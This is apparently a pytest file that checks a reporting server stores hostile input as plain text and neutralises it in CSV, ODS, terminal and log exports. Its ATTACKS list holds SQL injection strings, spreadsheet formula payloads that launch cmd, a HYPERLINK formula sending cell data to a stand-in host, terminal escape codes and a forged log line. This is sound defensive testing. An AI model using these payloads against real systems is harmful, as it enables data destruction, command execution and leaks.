"""Words made to be run: by the database, by a spreadsheet, by a terminal or by whoever reads the log."""

import csv
import io
import json
import logging
import zipfile
from datetime import date

import pytest

from aparte.stats.months import Month
from aparte.wire.event import EventType
from aparte_server.api.app import build_app
from aparte_server.figures.exports import csv_file, ods_file, text
from aparte_server.figures.month import MonthFigures, month_figures
from aparte_server.logs import JsonFormatter
from tests.server.caller import Caller
from tests.server.test_stats import OCTOBER, Desk, a_demand
from tests.server.town import Town, body, event, uuid

ATTACKS = (
    "'; DROP TABLE event; --",
    '"; DELETE FROM receipt; --',
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    '=HYPERLINK("http://x.example?"&A1,"ici")',
    "\x1b[2J\x1b]0;pris\x07",
    'ligne\n{"level":"info","message":"forged"}',
    "<script>alert(1)</script>",
    "</text:p><text:p>",
    "$1 ? %s {0}",
)


def figures(town: Town) -> MonthFigures:
    counted = town.store.counting.month(town.org_id, OCTOBER)
    return month_figures("1" * 14, "Ville", Month.read(OCTOBER), counted, today=date(2026, 11, 26))


@pytest.fixture
def attacked(town: Town) -> Town:
    """Each attack as a code, a service, a site and a note, often enough to be published."""
    for attack in ATTACKS:
        desk = Desk(town, attack)
        for agent in ("a", "b", attack):
            desk.agent = agent if agent.isprintable() else "c"
            for _ in range(4):
                demand = a_demand(code=attack, outcome="transferred", service=attack)
                payload = {"channel": "desk", "local_day": "2026-10-14", "note": attack, "demands": [demand]}
                desk.send(EventType.CONTACT_RECORDED, uuid(), payload)
    return town


def test_the_database_takes_them_for_words(attacked: Town) -> None:
    assert len(attacked.payloads()) == 12 * len(ATTACKS)
    found = {json.loads(payload or "{}")["note"] for payload in attacked.payloads().values()}
    assert found == set(ATTACKS)


def test_a_spreadsheet_finds_no_formula_in_the_csv(attacked: Town) -> None:
    rows = list(csv.reader(io.StringIO(csv_file(figures(attacked)).decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert any("cmd" in cell for cell in cells)
    assert [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@", "\t"))] == []
    assert all(len(row) == 7 for row in rows)


def test_a_spreadsheet_finds_no_formula_in_the_workbook(attacked: Town) -> None:
    with zipfile.ZipFile(io.BytesIO(ods_file(figures(attacked)))) as packed:
        content = packed.read("content.xml").decode()
    assert "cmd" in content
    assert "table:formula" not in content
    assert "<script" not in content


def test_a_terminal_gets_no_command(attacked: Town) -> None:
    assert "\x1b" not in text(figures(attacked))
    assert "\x07" not in text(figures(attacked))


def test_a_log_line_stays_one_line_and_holds_no_word_of_it(town: Town, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.INFO)
    token = town.store.devices.enrol(town.store.devices.invite(town.org_id, "x")).token
    caller = Caller(build_app(town.store), token)
    for attack in ATTACKS:
        sent = json.dumps(json.loads(body([event(1)])) | {"agent_ref": attack, "payload": {"note": attack}})
        caller.post("/api/v1/events", sent.encode())
        caller.get(f"/{attack}")
        caller.get(f"/api/v1/changes?cursor={attack}", headers={"user-agent": attack.replace("\n", " ")})
    lines = [JsonFormatter().format(record) for record in caplog.records if record.name.startswith("aparte_server")]
    assert len(lines) == 3 * len(ATTACKS)
    for line in lines:
        assert "\n" not in line
        assert json.loads(line)["message"] == "answered"
        assert not any(attack.strip() in line for attack in ATTACKS)
